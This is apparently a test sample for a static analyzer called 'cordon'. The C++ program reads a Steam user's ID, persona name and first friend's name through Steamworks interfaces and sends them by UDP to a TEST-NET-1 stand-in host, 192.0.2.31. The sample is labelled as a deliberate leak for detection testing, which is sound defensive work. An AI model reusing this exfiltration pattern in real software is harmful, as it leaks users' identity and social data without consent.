// steam_interfaces_udp: sample title (u). LEAKY, C++, Steam C++ interfaces.
//
// What it does: gets ISteamUser and ISteamFriends the way Steamworks
// headers do. SteamUser() is the current SDK's inline accessor
// (steam_api_internal.h, STEAM_DEFINE_USER_INTERFACE_ACCESSOR): it reads the
// object through SteamInternal_ContextInit(s_CallbackCounterAndContext),
// whose first word is an init function calling
// SteamInternal_FindOrCreateUserInterface(SteamAPI_GetHSteamUser(),
// "SteamUser023"). ISteamFriends comes from a direct
// SteamInternal_FindOrCreateUserInterface(hUser, "SteamFriends018"), as
// older SDKs' context objects did. It reads the Steam ID
// (ISteamUser::GetSteamID, slot 2), the persona name
// (ISteamFriends::GetPersonaName, slot 0) and, when there is a friend
// (GetFriendCount, used only to decide), the first friend's name
// (GetFriendByIndex, then GetFriendPersonaName, slot 6), all virtual calls,
// and sends them in one UDP datagram to 192.0.2.31:27099 (TEST-NET-1).
//
// What cordon must find: three exfiltration paths to sendto, with sources
// ISteamUser::GetSteamID, ISteamFriends::GetPersonaName and
// ISteamFriends::GetFriendPersonaName (steam; identity, identity, social):
// high under zero-trust. No import names a method: a binary front end must
// name each indirect call by its vtable slot, from the interface version
// string the accessor was given and the packs' method order
// (rules/packs/steam-interfaces.yaml). GetFriendCount only decides, and the
// friend's Steam ID only selects the name: no path from either.
//
// Running it: the datagram is
// "steam id=76561198000000042 name=MockPersona friend=MockFriendA".
#include <steam/steam_api.h>

#include <cstdio>
#include <cstring>

#include "sample_net.h"

namespace {

// As STEAM_DEFINE_USER_INTERFACE_ACCESSOR( ISteamUser *, SteamUser,
// "SteamUser023" ) expands in steam_api_internal.h.
inline void SteamInternal_Init_SteamUser(ISteamUser** p) {
  *p = static_cast<ISteamUser*>(
      SteamInternal_FindOrCreateUserInterface(SteamAPI_GetHSteamUser(), "SteamUser023"));
}
inline ISteamUser* SteamUser023() {
  static void* s_CallbackCounterAndContext[3] = {
      reinterpret_cast<void*>(&SteamInternal_Init_SteamUser), nullptr, nullptr};
  return *static_cast<ISteamUser**>(SteamInternal_ContextInit(s_CallbackCounterAndContext));
}

inline ISteamFriends* SteamFriends018() {
  return static_cast<ISteamFriends*>(
      SteamInternal_FindOrCreateUserInterface(SteamAPI_GetHSteamUser(), "SteamFriends018"));
}

constexpr int kFriendFlagImmediate = 0x04;  // k_EFriendFlagImmediate

}  // namespace

int main() {
  if (!SteamAPI_Init()) return 1;
  if (sample_net_init() != 0) return 1;
  ISteamUser* user = SteamUser023();
  ISteamFriends* friends = SteamFriends018();
  if (user == nullptr || friends == nullptr) return 1;

  const unsigned long long id = user->GetSteamID().ConvertToUint64();
  const char* name = friends->GetPersonaName();
  const char* buddy = "";
  if (friends->GetFriendCount(kFriendFlagImmediate) > 0) {
    buddy = friends->GetFriendPersonaName(friends->GetFriendByIndex(0, kFriendFlagImmediate));
  }
  char packet[256];
  int length =
      std::snprintf(packet, sizeof packet, "steam id=%llu name=%s friend=%s", id, name, buddy);
  if (length < 0 || static_cast<std::size_t>(length) >= sizeof packet) return 1;

  sample_socket_t fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (fd == SAMPLE_BAD_SOCKET) return 1;
  sockaddr_in to;
  std::memset(&to, 0, sizeof to);
  to.sin_family = AF_INET;
  to.sin_port = htons(27099);
  inet_pton(AF_INET, "192.0.2.31", &to.sin_addr);
  long sent = static_cast<long>(sendto(fd, packet, static_cast<std::size_t>(length), 0,
                                       reinterpret_cast<const sockaddr*>(&to), sizeof to));
  std::printf("sample: sendto 192.0.2.31:27099 %s\n", sent == length ? "sent" : "failed (offline)");
  sample_close_socket(fd);
  SteamAPI_Shutdown();
  return 0;
}
